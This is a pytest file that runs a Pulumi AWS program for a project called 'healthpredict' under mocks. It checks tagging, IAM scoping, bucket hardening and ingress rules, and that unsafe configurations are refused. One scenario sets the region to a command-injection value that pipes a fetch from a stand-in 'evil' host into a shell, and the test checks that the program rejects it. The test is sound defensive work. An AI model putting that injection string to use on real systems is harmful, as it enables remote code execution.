"""The Pulumi program under mocks: what it declares for a default stack and which configs it refuses.

Every scenario runs the real ``infra_pulumi/__main__.py`` in its own interpreter (the Pulumi mock
runtime is process-global); all scenarios start together once per module to keep the run short.
"""

from __future__ import annotations

import fnmatch
import json
from typing import Any

import pytest
import yaml
from infra_harness import FAKE_AMI, FAKE_AZS, REPO_ROOT, run_programs

from infra_pulumi.config import UCI_DATASET_URL
from infra_pulumi.policy.rules import violations
from infra_pulumi.secrets import SECRET_NAMES

pytestmark = pytest.mark.infra

OWNER = "data-platform-team"
ALLOWED = "203.0.113.10/32"
REPO_URL = "https://github.com/example-org/healthpredict.git"
BASE: dict[str, Any] = {
    "aws:region": "eu-west-1",
    "healthpredict:owner": OWNER,
    "healthpredict:allowedCidrs": [ALLOWED],
    "healthpredict:repoUrl": REPO_URL,
}
KMS_ARN = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"

RAW_S3_URI = "s3://healthpredict-bucket-a1b2c3/raw/dataset_diabetes.zip"  # in the bucket the mocks name

DEV_EXAMPLE: dict[str, Any] = yaml.safe_load((REPO_ROOT / "infra_pulumi" / "Pulumi.dev.yaml").read_text())["config"]

SCENARIOS: dict[str, dict[str, Any]] = {
    "default": BASE,
    "dev_example": DEV_EXAMPLE,
    "dev_example_completed": {**DEV_EXAMPLE, **BASE},
    "custom": {
        **BASE,
        "healthpredict:sshCidrs": ["198.51.100.0/28"],
        "healthpredict:allowedCidrs": [ALLOWED, "2001:db8::/64"],
        "healthpredict:apiPorts": "30000-32767",
        "healthpredict:kmsKeyArn": KMS_ARN,
        "healthpredict:ecrKeepLast": 5,
        "healthpredict:noncurrentVersionDays": 7,
        "healthpredict:forceDestroy": True,
        "healthpredict:instanceType": "m6i.2xlarge",
        "healthpredict:rootVolumeGb": 100,
        "healthpredict:azCount": 3,
        "healthpredict:repoRef": "v1.2.0",
        "healthpredict:composeFile": "deploy/compose.yaml",
    },
    "raw_s3": {**BASE, "healthpredict:rawDataUri": RAW_S3_URI},
    "raw_s3_other_bucket": {**BASE, "healthpredict:rawDataUri": "s3://someone-elses-bucket/raw/dataset_diabetes.zip"},
    "ssh_world": {**BASE, "healthpredict:sshCidrs": ["0.0.0.0/0"]},
    "ssh_world_override": {
        **BASE,
        "healthpredict:sshCidrs": ["0.0.0.0/0"],
        "healthpredict:allowUnsafeIngress": True,
    },
    "api_world": {**BASE, "healthpredict:allowedCidrs": ["0.0.0.0/0"]},
    "api_world_v6": {**BASE, "healthpredict:allowedCidrs": ["::/0"]},
    "api_world_override": {
        **BASE,
        "healthpredict:allowedCidrs": ["0.0.0.0/0"],
        "healthpredict:allowUnsafeIngress": True,
    },
    "no_owner": {k: v for k, v in BASE.items() if k != "healthpredict:owner"},
    "bad_cidr": {**BASE, "healthpredict:allowedCidrs": ["203.0.113.300/32"]},
    "typo": {**BASE, "healthpredict:allowUnsafeIngres": True},
    "no_allowed": {k: v for k, v in BASE.items() if k != "healthpredict:allowedCidrs"},
    "bad_region": {**BASE, "aws:region": "eu-west-1;curl${IFS}evil|sh"},
    "relaxed_prefix_wide_ssh": {
        **BASE,
        "healthpredict:minIngressPrefix": 8,
        "healthpredict:allowedCidrs": ["198.51.0.0/16"],
        "healthpredict:sshCidrs": ["198.51.0.0/16"],
    },
    "relaxed_prefix": {
        **BASE,
        "healthpredict:minIngressPrefix": 8,
        "healthpredict:allowedCidrs": ["198.51.0.0/16"],
        "healthpredict:sshCidrs": ["198.51.100.0/28"],
    },
    "mlflow_port": {**BASE, "healthpredict:mlflowPort": 5000},
    "api_ports_cover_mlflow": {**BASE, "healthpredict:apiPorts": "4000-6000"},
}


@pytest.fixture(scope="module")
def runs() -> dict[str, dict[str, Any]]:
    return run_programs(SCENARIOS)


def ok(runs: dict[str, dict[str, Any]], name: str) -> dict[str, Any]:
    result = runs[name]
    assert result["error"] is None, result["error"]
    return result


def of_type(result: dict[str, Any], token: str) -> list[dict[str, Any]]:
    return [r for r in result["resources"] if r["type"] == token]


def one(result: dict[str, Any], token: str) -> dict[str, Any]:
    found = of_type(result, token)
    assert len(found) == 1, f"expected exactly one {token}, got {[r['name'] for r in found]}"
    return found[0]["inputs"]


def ingress(result: dict[str, Any]) -> list[dict[str, Any]]:
    return [r["inputs"] for r in of_type(result, "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule")]


# --- default stack -------------------------------------------------------------------------


def test_outputs_are_complete_and_point_at_the_instance(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    out = result["outputs"]
    dns = "ec2-198-51-100-7.eu-west-1.compute.amazonaws.com"
    assert out["public_dns"] == dns
    assert out["public_ip"] == "198.51.100.7"
    assert out["instance_id"] == "i-0123456789abcdef0"
    assert out["bucket_name"] == "healthpredict-bucket-a1b2c3"
    assert out["artifact_uri"] == "s3://healthpredict-bucket-a1b2c3/data"
    assert out["secrets_path"] == "/healthpredict/dev"
    assert out["bootstrap_status_parameter"] == "/healthpredict/dev/bootstrap-status"
    assert out["ecr_repository_url"] == "111122223333.dkr.ecr.eu-west-1.amazonaws.com/healthpredict-service-d4e5"
    # MLflow and Prefect through a tunnel to the host (docs/INFRA.md), at the same ports on the user's machine.
    assert out["mlflow_tracking_uri"] == "http://localhost:5000"
    assert out["prefect_ui_url"] == "http://localhost:4200"
    assert out["prefect_api_url"] == "http://localhost:4200/api"
    assert out["api_url"] == f"http://{dns}:8000"
    assert {"vpc_id", "security_group_id"} <= set(out)


def test_every_taggable_resource_has_project_stack_owner_tags(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    aws_resources = [r for r in result["resources"] if r["type"].startswith("aws:")]
    taggable = [r for r in aws_resources if r["taggable"]]
    # Guard against the check silently covering nothing.
    assert {r["type"].split(":")[-1] for r in taggable} >= {
        "Vpc", "Subnet", "InternetGateway", "RouteTable", "SecurityGroup", "SecurityGroupIngressRule",
        "SecurityGroupEgressRule", "Bucket", "Repository", "Role", "InstanceProfile", "Instance",
    }  # fmt: skip
    for res in taggable:
        tags = res["inputs"].get("tags") or {}
        assert tags.get("project") == "healthpredict", res["name"]
        assert tags.get("stack") == "dev", res["name"]
        assert tags.get("owner") == OWNER, res["name"]
    root = one(result, "aws:ec2/instance:Instance")["rootBlockDevice"]
    assert root["tags"]["owner"] == OWNER and root["tags"]["project"] == "healthpredict"


def test_every_cloud_resource_is_parented_to_a_component(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    components = {r["type"] for r in result["resources"] if r["type"].startswith("healthpredict:infra:")}
    assert components == {
        f"healthpredict:infra:{c}" for c in ("Network", "Security", "Storage", "Registry", "Secrets", "Iam", "Compute")
    }
    for res in result["resources"]:
        if res["type"].startswith("aws:"):
            assert "$healthpredict:infra:" in res["parent"], (res["name"], res["parent"])


def test_network_has_public_subnets_in_distinct_azs_routed_to_igw(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    vpc = one(result, "aws:ec2/vpc:Vpc")
    assert vpc["cidrBlock"] == "10.42.0.0/16" and vpc["enableDnsHostnames"] is True
    # Pulumi registers the two subnets in no fixed order: compare them keyed by CIDR, each with its own AZ.
    subnets = [r["inputs"] for r in of_type(result, "aws:ec2/subnet:Subnet")]
    assert len(subnets) == 2
    assert {s["cidrBlock"]: s["availabilityZone"] for s in subnets} == {
        "10.42.0.0/20": FAKE_AZS[0], "10.42.16.0/20": FAKE_AZS[1],
    }  # fmt: skip
    assert all(s["mapPublicIpOnLaunch"] is True for s in subnets)
    routes = one(result, "aws:ec2/routeTable:RouteTable")["routes"]
    assert routes == [{"cidrBlock": "0.0.0.0/0", "gatewayId": "healthpredict-igw-id"}]
    assocs = [r["inputs"] for r in of_type(result, "aws:ec2/routeTableAssociation:RouteTableAssociation")]
    assert sorted(a["subnetId"] for a in assocs) == ["healthpredict-public-0-id", "healthpredict-public-1-id"]


def test_ingress_is_only_the_api_from_allowed_cidrs(runs: dict[str, dict[str, Any]]) -> None:
    """MLflow (5000) and Prefect (4200) speak plain HTTP: the security group never publishes them."""
    result = ok(runs, "default")
    rules = ingress(result)
    assert sorted((r["fromPort"], r["toPort"]) for r in rules) == [(8000, 8000)]
    assert all(r["cidrIpv4"] == ALLOWED and r["ipProtocol"] == "tcp" for r in rules)
    assert not any(r.get("cidrIpv6") for r in rules)
    egress = one(result, "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule")
    assert egress["ipProtocol"] == "-1" and egress["cidrIpv4"] == "0.0.0.0/0"


def test_bucket_is_versioned_encrypted_private_and_tls_only(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    assert one(result, "aws:s3/bucket:Bucket")["forceDestroy"] is False
    versioning = one(result, "aws:s3/bucketVersioning:BucketVersioning")
    assert versioning["versioningConfiguration"]["status"] == "Enabled"
    sse = one(result, "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration")
    assert sse["rules"][0]["applyServerSideEncryptionByDefault"]["sseAlgorithm"] == "AES256"
    pab = one(result, "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock")
    flags = ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")
    assert all(pab[f] is True for f in flags)
    assert one(result, "aws:s3/bucketOwnershipControls:BucketOwnershipControls")["rule"] == {
        "objectOwnership": "BucketOwnerEnforced"
    }
    policy = json.loads(one(result, "aws:s3/bucketPolicy:BucketPolicy")["policy"])
    (stmt,) = policy["Statement"]
    arn = "arn:aws:s3:::healthpredict-bucket-a1b2c3"
    assert stmt["Effect"] == "Deny" and stmt["Principal"] == "*" and stmt["Action"] == "s3:*"
    assert stmt["Resource"] == [arn, f"{arn}/*"]
    assert stmt["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
    (rule,) = one(result, "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration")["rules"]
    assert rule["status"] == "Enabled" and rule["noncurrentVersionExpiration"]["noncurrentDays"] == 30
    for deprecated in ("BucketV2", "BucketVersioningV2", "BucketLifecycleConfigurationV2"):
        assert not any(r["type"].endswith(f":{deprecated}") for r in result["resources"])


def _policy_resources(policy: dict[str, Any]) -> list[tuple[list[str], list[str]]]:
    out = []
    for stmt in policy["Statement"]:
        assert stmt["Effect"] == "Allow"
        actions = stmt["Action"] if isinstance(stmt["Action"], list) else [stmt["Action"]]
        resources = stmt["Resource"] if isinstance(stmt["Resource"], list) else [stmt["Resource"]]
        out.append((actions, resources))
    return out


def test_iam_policy_is_scoped_to_this_bucket_and_repository(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    bucket_arn = "arn:aws:s3:::healthpredict-bucket-a1b2c3"
    repo_arn = "arn:aws:ecr:eu-west-1:111122223333:repository/healthpredict-service-d4e5"
    policy = json.loads(one(result, "aws:iam/rolePolicy:RolePolicy")["policy"])
    statements = _policy_resources(policy)
    secrets_arn = "arn:aws:ssm:eu-west-1:111122223333:parameter/healthpredict/dev"
    status_arn = f"{secrets_arn}/bootstrap-status"
    allowed = {bucket_arn, f"{bucket_arn}/*", repo_arn, "*", secrets_arn, f"{secrets_arn}/*", status_arn}
    seen_resources: set[str] = set()
    for actions, resources in statements:
        assert not any(a.endswith("*") for a in actions), actions
        if "*" in resources:
            assert actions == ["ecr:GetAuthorizationToken"] and resources == ["*"]
        for res in resources:
            assert res in allowed, res
            seen_resources.add(res)
        for res in resources:
            if res.startswith("arn:aws:s3"):
                assert all(a.startswith("s3:") for a in actions)
            if res == repo_arn:
                assert all(a.startswith("ecr:") for a in actions) and "ecr:PutImage" in actions
            if res.startswith(secrets_arn):
                writes = [a for a in actions if not a.startswith("ssm:Get")]
                assert writes == ([] if res != status_arn else ["ssm:PutParameter"]), (res, actions)
    assert seen_resources == allowed
    assume = json.loads(one(result, "aws:iam/role:Role")["assumeRolePolicy"])
    assert assume["Statement"][0]["Principal"] == {"Service": "ec2.amazonaws.com"}
    ssm = one(result, "aws:iam/rolePolicyAttachment:RolePolicyAttachment")
    assert ssm["policyArn"] == "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"


def test_ecr_repository_is_immutable_scanned_and_pruned(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    repo = one(result, "aws:ecr/repository:Repository")
    assert repo["imageTagMutability"] == "IMMUTABLE"
    assert repo["imageScanningConfiguration"] == {"scanOnPush": True}
    assert repo["forceDelete"] is False
    lifecycle = one(result, "aws:ecr/lifecyclePolicy:LifecyclePolicy")
    assert lifecycle["repository"] == "healthpredict-service-d4e5"
    deployed, untagged, rest = sorted(json.loads(lifecycle["policy"])["rules"], key=lambda r: r["rulePriority"])
    assert deployed["selection"]["tagPrefixList"] == ["deployed-"]
    assert untagged["selection"]["tagStatus"] == "untagged"
    assert rest["selection"] == {"tagStatus": "any", "countType": "imageCountMoreThan", "countNumber": 20}
    assert rest["action"] == {"type": "expire"}


def test_secrets_are_generated_secure_strings_under_the_stack_path(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    parameters = {p["inputs"]["name"]: p["inputs"] for p in of_type(result, "aws:ssm/parameter:Parameter")}
    expected = {f"/healthpredict/dev/{name}" for name in SECRET_NAMES}
    assert set(parameters) == expected | {"/healthpredict/dev/bootstrap-status"}
    for name in expected:
        assert parameters[name]["type"] == "SecureString", name
    assert parameters["/healthpredict/dev/bootstrap-status"]["type"] == "String"
    passwords = of_type(result, "random:index/randomPassword:RandomPassword")
    assert len(passwords) == len(SECRET_NAMES) and all(p["inputs"]["length"] >= 32 for p in passwords)
    script = one(result, "aws:ec2/instance:Instance")["userData"]
    for name in SECRET_NAMES:  # nothing secret travels in the user data
        assert f"{name}=" not in script, name


def test_metadata_service_answers_the_host_only(runs: dict[str, dict[str, Any]]) -> None:
    options = one(ok(runs, "default"), "aws:ec2/instance:Instance")["metadataOptions"]
    assert options["httpTokens"] == "required" and options["httpPutResponseHopLimit"] == 1


def test_instance_is_sized_hardened_and_uses_ubuntu_lts(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    inst = one(result, "aws:ec2/instance:Instance")
    assert inst["instanceType"] == "t3.xlarge"
    assert inst["ami"] == FAKE_AMI
    assert inst["metadataOptions"]["httpTokens"] == "required"
    root = inst["rootBlockDevice"]
    assert root["volumeType"] == "gp3" and root["encrypted"] is True and root["volumeSize"] >= 60
    assert inst["iamInstanceProfile"] == "healthpredict-host-profile-f6"
    assert inst["vpcSecurityGroupIds"] == ["healthpredict-sg-id"]
    assert inst["subnetId"] == "healthpredict-public-0-id"
    assert "keyName" not in inst  # shell access is via SSM, not an SSH key pair
    (ami_call,) = [c for c in result["calls"] if c["token"] == "aws:ec2/getAmi:getAmi"]
    assert ami_call["args"]["owners"] == ["099720109477"] and ami_call["args"]["mostRecent"] is True
    name_filter = next(f for f in ami_call["args"]["filters"] if f["name"] == "name")
    assert name_filter["values"][0].startswith("ubuntu/images/") and "24.04" in name_filter["values"][0]


def test_user_data_installs_tooling_clones_repo_and_starts_compose(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "default")
    user_data = one(result, "aws:ec2/instance:Instance")["userData"]
    assert user_data.startswith("#cloud-config\n")
    (written,) = yaml.safe_load(user_data)["write_files"]
    script = written["content"]
    assert script.startswith("#!/bin/bash")
    for needle in (
        "docker-ce",
        "docker-compose-plugin",
        "minikube-linux-amd64",
        "/bin/linux/amd64/kubectl",
        f"git clone {REPO_URL} /opt/healthpredict",
        "fetch --tags origin main",
        "docker compose up -d",
        "HEALTHPREDICT_ARTIFACT_URI=s3://healthpredict-bucket-a1b2c3/data",
        "sha256sum --check",
        "get_parameters_by_path",
        "HEALTHPREDICT_IMAGE_REPOSITORY=111122223333.dkr.ecr.eu-west-1.amazonaws.com/healthpredict-service-d4e5",
        f"RAW_DATA_URI={UCI_DATASET_URL}",
        'echo "HEALTHPREDICT_RAW_FILE=dataset_diabetes.zip"',
    ):
        assert needle in script, needle
    assert script.index("docker-compose-plugin") < script.index("docker compose up -d")
    assert script.index("RAW_DATA_URI=") < script.index("docker compose up -d")


def test_raw_data_from_the_stacks_bucket_is_readable_by_the_role(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "raw_s3")
    script = yaml.safe_load(one(result, "aws:ec2/instance:Instance")["userData"])["write_files"][0]["content"]
    assert f"RAW_DATA_URI={RAW_S3_URI}" in script
    key_arn = "arn:aws:s3:::" + RAW_S3_URI.removeprefix("s3://")
    policy = json.loads(one(result, "aws:iam/rolePolicy:RolePolicy")["policy"])
    granted = {a for actions, resources in _policy_resources(policy) for a in actions
               if any(fnmatch.fnmatchcase(key_arn, r) for r in resources)}  # fmt: skip
    assert "s3:GetObject" in granted


def test_raw_data_in_another_bucket_is_refused_naming_the_key(runs: dict[str, dict[str, Any]]) -> None:
    result = runs["raw_s3_other_bucket"]
    assert result["error"] is not None and "healthpredict:rawDataUri" in result["error"]
    assert "someone-elses-bucket" in result["error"] and "not in this stack's bucket" in result["error"]
    assert not of_type(result, "aws:ec2/instance:Instance"), "no host may boot with a source its role cannot read"


def test_dev_example_needs_owner_and_otherwise_matches_defaults(runs: dict[str, dict[str, Any]]) -> None:
    assert "healthpredict:owner is required" in refused(runs, "dev_example")
    completed, default = ok(runs, "dev_example_completed"), ok(runs, "default")
    assert {k for k in DEV_EXAMPLE if k.startswith("healthpredict:")} >= {
        "healthpredict:instanceType", "healthpredict:apiPorts", "healthpredict:sshCidrs",
    }  # fmt: skip

    def declared(result: dict[str, Any]) -> list[str]:
        return sorted(json.dumps([r["type"], r["name"], r["inputs"]], sort_keys=True) for r in result["resources"])

    assert declared(completed) == declared(default)
    assert completed["outputs"] == default["outputs"]


# --- non-default but safe configuration ----------------------------------------------------


def test_custom_config_flows_into_resources(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "custom")
    rules = ingress(result)
    ssh = [r for r in rules if r["fromPort"] == 22]
    assert [(r["cidrIpv4"], r["toPort"]) for r in ssh] == [("198.51.100.0/28", 22)]
    api = sorted((r.get("cidrIpv4") or "", r.get("cidrIpv6") or "") for r in rules if r["fromPort"] == 30000)
    assert api == [("", "2001:db8::/64"), (ALLOWED, "")]
    assert all(r["toPort"] == 32767 for r in rules if r["fromPort"] == 30000)
    assert result["outputs"]["api_url"].endswith(":30000")
    sse = one(result, "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration")
    rule = sse["rules"][0]
    assert rule["applyServerSideEncryptionByDefault"] == {
        "sseAlgorithm": "aws:kms",
        "kmsMasterKeyId": KMS_ARN,
    }
    assert rule["bucketKeyEnabled"] is True
    policy = json.loads(one(result, "aws:iam/rolePolicy:RolePolicy")["policy"])
    kms = [s for s in policy["Statement"] if any(a.startswith("kms:") for a in s["Action"])]
    assert [s["Resource"] for s in kms] == [[KMS_ARN]]
    lifecycle = json.loads(one(result, "aws:ecr/lifecyclePolicy:LifecyclePolicy")["policy"])
    assert lifecycle["rules"][-1]["selection"]["countNumber"] == 5
    (s3_rule,) = one(result, "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration")["rules"]
    assert s3_rule["noncurrentVersionExpiration"]["noncurrentDays"] == 7
    assert one(result, "aws:s3/bucket:Bucket")["forceDestroy"] is True
    assert one(result, "aws:ecr/repository:Repository")["forceDelete"] is True
    inst = one(result, "aws:ec2/instance:Instance")
    assert inst["instanceType"] == "m6i.2xlarge" and inst["rootBlockDevice"]["volumeSize"] == 100
    assert "fetch --tags origin v1.2.0" in inst["userData"]
    assert 'echo "COMPOSE_FILE=deploy/compose.yaml"' in inst["userData"]
    assert len(of_type(result, "aws:ec2/subnet:Subnet")) == 3


# --- refused configuration -----------------------------------------------------------------


def refused(runs: dict[str, dict[str, Any]], name: str) -> str:
    result = runs[name]
    assert result["error"] is not None, f"scenario {name} should have been refused"
    assert "ValueError" in result["error"]
    assert not [r for r in result["resources"] if r["type"].startswith("aws:")], "nothing may be declared"
    return result["error"]


@pytest.mark.parametrize("scenario", ["ssh_world", "ssh_world_override"])
def test_ssh_from_the_internet_is_refused_even_with_override(runs: dict[str, dict[str, Any]], scenario: str) -> None:
    error = refused(runs, scenario)
    assert "healthpredict:sshCidrs" in error and "0.0.0.0/0" in error
    assert "whatever minIngressPrefix and allowUnsafeIngress say" in error


def test_relaxed_minimum_prefix_widens_the_api_but_not_ssh(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "relaxed_prefix_wide_ssh")
    assert "healthpredict:sshCidrs contains 198.51.0.0/16, wider than /24" in error
    rules = ingress(ok(runs, "relaxed_prefix"))
    assert sorted((r["fromPort"], r["cidrIpv4"]) for r in rules) == [(22, "198.51.100.0/28"), (8000, "198.51.0.0/16")]


def test_a_malformed_region_is_refused_naming_the_key(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "bad_region")
    assert "aws:region: 'eu-west-1;curl${IFS}evil|sh' is not an AWS region name" in error


def test_mlflow_and_prefect_ports_cannot_be_published(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "mlflow_port")
    assert "healthpredict:mlflowPort is not a setting" in error and "tunnel" in error
    error = refused(runs, "api_ports_cover_mlflow")
    assert "healthpredict:apiPorts: 4000-6000 includes" in error


@pytest.mark.parametrize(("scenario", "cidr"), [("api_world", "0.0.0.0/0"), ("api_world_v6", "::/0")])
def test_world_open_services_need_the_explicit_override(
    runs: dict[str, dict[str, Any]], scenario: str, cidr: str
) -> None:
    error = refused(runs, scenario)
    assert "healthpredict:allowedCidrs" in error and cidr in error
    assert "allowUnsafeIngress" in error


def test_override_opens_services_but_never_ssh(runs: dict[str, dict[str, Any]]) -> None:
    result = ok(runs, "api_world_override")
    rules = ingress(result)
    assert sorted(r["fromPort"] for r in rules) == [8000]
    assert all(r["cidrIpv4"] == "0.0.0.0/0" for r in rules)
    assert not any(r["fromPort"] <= 22 <= r["toPort"] for r in rules)


def test_missing_owner_is_refused(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "no_owner")
    assert "healthpredict:owner is required" in error


def test_invalid_cidr_is_refused_naming_the_key(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "bad_cidr")
    assert "healthpredict:allowedCidrs" in error and "203.0.113.300/32" in error


def test_missing_allowed_cidrs_is_refused(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "no_allowed")
    assert "healthpredict:allowedCidrs is required" in error


def test_unknown_config_key_is_refused_with_a_suggestion(runs: dict[str, dict[str, Any]]) -> None:
    error = refused(runs, "typo")
    assert "unknown config key healthpredict:allowUnsafeIngres" in error
    assert "did you mean healthpredict:allowUnsafeIngress?" in error


@pytest.mark.parametrize("scenario", ["default", "custom", "api_world_override"])
def test_declared_resources_pass_the_crossguard_rules(runs: dict[str, dict[str, Any]], scenario: str) -> None:
    result = ok(runs, scenario)
    found = {r["name"]: violations(r["type"], r["inputs"]) for r in result["resources"]}
    assert {name: v for name, v in found.items() if v} == {}
